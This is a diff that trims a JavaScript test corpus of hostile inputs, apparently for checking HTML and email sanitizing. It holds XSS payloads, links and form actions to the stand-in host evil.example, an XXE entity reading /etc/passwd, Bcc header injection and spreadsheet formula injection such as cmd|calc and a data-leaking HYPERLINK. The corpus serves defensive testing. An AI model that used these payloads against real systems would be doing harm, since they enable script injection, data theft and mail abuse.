@@ -2,22 +2,16 @@
 
 const SCRIPTS = [
   '<script>alert(1)</script>',
-  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
   '</title></head><body onload=alert(1)>',
   '</td></tr></table><img src=x onerror=alert(1)>',
   '"><svg/onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
   '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<details open ontoggle=alert(1)>',
   '<iframe srcdoc="<script>parent.alert(1)</script>">',
-  '<object data="javascript:alert(1)"></object>',
   '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)>',
   '<meta http-equiv="refresh" content="0;url=https://evil.example">',
   '<base href="https://evil.example/">',
-  '<link rel=stylesheet href=//evil.example/x.css>',
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
   '<plaintext>',
-  '<template><img src=x onerror=alert(1)></template>',
 ]
 
 const ATTRIBUTES = [
@@ -29,8 +23,6 @@ const ATTRIBUTES = [
   'javascript:alert(1)',
   'java\tscript:alert(1)',
   'data:text/html,<script>alert(1)</script>',
-  'vbscript:msgbox(1)',
-  '<a href="javascript:alert(1)">x</a>',
   '<a href="https://evil.example">Unsubscribe</a>',
   'https://evil.example/?q="><b>',
 ]
@@ -39,20 +31,16 @@ const STYLES_AND_COMMENTS = [
   '<style>*{display:none}</style>',
   '</style><script>alert(1)</script>',
   'x;}*{display:none',
-  'expression(alert(1))',
   '<!--[if mso]><script>x</script><![endif]-->',
   '<![endif]--><b>for Word</b>',
-  '--><b>out</b><!--',
   ']]><x>',
   '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
 ]
 
 const ESCAPES = [
   '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '&#60;script&#62;alert(1)&#60;/script&#62;',
   '&amp;lt;b&amp;gt;',
   '%3Cscript%3Ealert(1)%3C/script%3E',
-  '\\u003cscript\\u003ealert(1)',
   '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
 ]
 
@@ -69,7 +57,6 @@ const TEMPLATES = [
 const LINES = [
   'a\r\nBcc: eve@example.org\r\n\r\nbody',
   'a\nSubject: mine\n\n--boundary',
-  'a%0d%0aBcc: eve@example.org',
   '=?utf-8?q?a=0D=0ABcc=3A_eve=40example=2Eorg?=',
   'one\u2028two\u2029three\u0085four\u000bfive',
   '.\r\nQUIT',
@@ -81,14 +68,12 @@ const HIDDEN_AND_TURNED = [
   'zero\u200bwidth\ufeff\u2060',
   '\u0000\u0008\u001b[2Jnull',
   '\ud800 half',
-  'tags \u{e0041}\u{e0042}',
   'раураl.com аpple',
 ]
 
 const LONG = [
   '<'.repeat(5000),
   'W'.repeat(5000),
-  'long name '.repeat(500),
   'ﷺ'.repeat(500),
   `z${'\u0301'.repeat(3000)}`,
   '👩‍👩‍👧‍👦'.repeat(300),
@@ -99,10 +84,8 @@ const FORMULAS = [
   "=cmd|' /C calc'!A0",
   '=HYPERLINK("https://evil.example/?"&A1,"open")',
   '+1+cmd|calc',
-  '-2+3+cmd|calc',
   '@SUM(1+1)*cmd|calc',
   '\t=1+1',
-  '\r=1+1',
   '＝1+1',
   '=1+1";=1+1,"=1+1',
 ]
